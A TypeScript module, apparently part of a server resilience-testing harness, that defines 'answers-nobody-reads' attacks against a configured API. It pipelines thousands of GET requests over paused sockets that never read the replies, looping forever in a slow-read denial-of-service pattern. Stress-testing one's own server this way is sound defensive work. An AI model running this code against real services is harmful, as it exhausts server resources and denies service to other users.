import { openTo } from '../attacker/connection.ts';
import { forever } from '../attacker/forever.ts';
import type { Arms, Attack, Told } from './attack.ts';

const REQUESTS = 1_400;
const LISTS = 300;
const LONGEST_LIST = 1_000;

export const answersNobodyReads: readonly Attack[] = [
  {
    name: 'answers-nobody-reads/2',
    what: `${REQUESTS} pipelined GET /openapi.json on each of 2 connections, read by nobody`,
    ...{ items: 0, accounts: 0, isShort: false },
    run: (arms, told) => ask(arms, told, 2),
  },
  {
    name: 'answers-nobody-reads/40',
    what: `${REQUESTS} pipelined GET /openapi.json on each of 40 connections, read by nobody`,
    ...{ items: 0, accounts: 0, isShort: true },
    run: (arms, told) => ask(arms, told, 40),
  },
  {
    name: 'answers-nobody-reads/lists',
    what: `${LISTS} pipelined GET /items/?limit=${LONGEST_LIST} on one connection, read by nobody`,
    ...{ items: LONGEST_LIST, accounts: 0, isShort: true },
    run: (arms, told) =>
      hold(arms, told, `/items/?limit=${LONGEST_LIST}`, LISTS, [`Authorization: Bearer ${arms.token}`]),
  },
];

async function ask(arms: Arms, told: Told, connections: number): Promise<void> {
  await Promise.all(
    Array.from({ length: connections }, () => hold(arms, told, '/openapi.json', REQUESTS, [])),
  );
}

async function hold(arms: Arms, told: Told, path: string, times: number, headers: string[]): Promise<void> {
  const { host, pathname } = new URL(arms.api);
  const request = [`GET ${pathname}${path} HTTP/1.1`, `Host: ${host}`, ...headers].join('\r\n');
  await forever(async () => {
    const connection = await openTo(arms);
    connection.socket.pause();
    connection.socket.write(`${request}\r\n\r\n`.repeat(times));
    told.sent(times);
    await connection.closed;
    told.heard('closed');
  });
}
